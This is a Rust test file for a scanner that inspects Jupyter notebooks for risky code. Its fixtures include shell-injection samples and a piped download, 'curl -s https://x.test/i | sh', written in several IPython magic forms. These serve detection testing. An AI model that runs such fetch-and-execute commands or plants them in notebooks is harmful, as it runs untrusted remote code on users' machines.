//! Notebooks.

use super::*;

fn notebook(cells: &[&str]) -> Vec<u8> {
    let cells: Vec<_> = cells.iter().map(|cell| serde_json::json!({"cell_type": "code", "source": cell})).collect();
    serde_json::json!({"cells": cells, "metadata": {}, "nbformat": 4}).to_string().into_bytes()
}

/// The rules and weights of what is found in a notebook.
fn in_notebook(bytes: Vec<u8>) -> Vec<(String, Severity)> {
    let inspection = plugin(&[("tour.ipynb", bytes)]);
    let findings = inspection.findings.into_iter().filter(|finding| finding.file.as_deref() == Some("tour.ipynb"));
    findings.map(|finding| (finding.rule, finding.severity)).collect()
}

#[test]
fn no_magic_ends_the_examination_of_a_notebook() {
    let evil = "import os\nos.system(input())";
    for cell in [
        format!("x = !ls\n{evil}"),
        format!("!ls\n{evil}"),
        format!("%cd ..\n{evil}"),
        format!("x = %env\n{evil}"),
        format!("os?\n{evil}"),
        format!("%%writefile evil.py\n{evil}"),
        format!("%%python3\n{evil}"),
        format!("%%time\n{evil}"),
        format!("%%capture out\n{evil}"),
        "import os\n%time os.system(input())".to_owned(),
        "import os\n%timeit -n 1 -r 1 os.system(input())".to_owned(),
        format!("x = '''\n!ls\n'''\n{evil}"),
    ] {
        let found = in_notebook(notebook(&[&cell]));
        assert!(found.contains(&("AL-CODE-shell-injection".to_owned(), Severity::Medium)), "{cell}: {found:?}");
    }
    // A cell that is no Python does not hide the others.
    let found = in_notebook(notebook(&["this is no Python", evil]));
    assert!(found.contains(&("AL-CODE-shell-injection".to_owned(), Severity::Medium)), "{found:?}");
    assert!(found.contains(&("AL-FILES-notebook".to_owned(), Severity::Medium)), "{found:?}");
    assert!(found.iter().all(|(rule, _)| rule != "AL-CODE-unparseable"));
}

#[test]
fn commands_in_notebooks_are_examined_as_commands() {
    for cell in [
        "!curl -s https://x.test/i | sh",
        "%%bash\ncurl -s https://x.test/i | sh",
        "%%sh\ncurl -s https://x.test/i | sh",
        "%system curl -s https://x.test/i | sh",
        "%sx curl -s https://x.test/i | sh",
        "x = !curl -s https://x.test/i | sh",
        "%%script bash\ncurl -s https://x.test/i | sh",
    ] {
        let found = in_notebook(notebook(&[cell]));
        assert!(found.contains(&("AL-MALWARE-piped-download".to_owned(), Severity::Medium)), "{cell}: {found:?}");
    }
    let finding = one("tour.ipynb", &notebook(&["x = 1", "!ls -l"]));
    assert_eq!((finding.severity, finding.capability), (Severity::Low, Some(Capability::Subprocess)));
    assert!(finding.message.contains("ls -l") && finding.evidence[0].message.starts_with("code cell 2, line 1"));
    assert!(!finding.remedy.starts_with("Nothing"));
    // Everyday notebooks stay what they were.
    let found = in_notebook(notebook(&["%matplotlib inline\nimport json\njson.dumps?", "x = 7\ny = (x\n  % 2)"]));
    assert_eq!(found, [("AL-FILES-notebook".to_owned(), Severity::Note)]);
    let found = in_notebook(notebook(&["!ls -l"]));
    assert_eq!(found, [("AL-FILES-notebook".to_owned(), Severity::Low)]);
}

#[test]
fn what_stays_unread_in_a_notebook_is_held_with_something_to_do() {
    for cell in ["%%javascript\nx()", "%%ruby\nx", "%%html\n<script>x()</script>", "%%writefile run\nx"] {
        let finding = one("tour.ipynb", &notebook(&[cell]));
        assert_eq!(action(&finding), PolicyAction::Hold, "{cell}");
        assert!(finding.remedy.starts_with("Write these cells in Python"), "{}", finding.remedy);
    }
    let finding = one("tour.ipynb", b"no JSON");
    assert_eq!(action(&finding), PolicyAction::Hold);
    assert!(finding.remedy.contains("save it anew"), "{}", finding.remedy);
    for cell in ["%%html\n<b>x</b>", "%%markdown\ntext", "%%writefile notes.md\ntext"] {
        assert_eq!(action(&one("tour.ipynb", &notebook(&[cell]))), PolicyAction::Note, "{cell}");
    }
}

#[test]
fn old_notebooks_and_byte_order_marks_are_read() {
    let cell = serde_json::json!({
        "cell_type": "code", "language": "python", "input": ["import os\n", "os.system(input())"], "outputs": [],
    });
    let old =
        serde_json::json!({"metadata": {"name": "x"}, "nbformat": 3, "worksheets": [{"cells": [cell]}]}).to_string();
    let marked = [&b"\xef\xbb\xbf"[..], &notebook(&["import os\nos.system(input())"])].concat();
    for bytes in [old.into_bytes(), marked] {
        let found = in_notebook(bytes);
        assert!(found.contains(&("AL-CODE-shell-injection".to_owned(), Severity::Medium)), "{found:?}");
    }
}
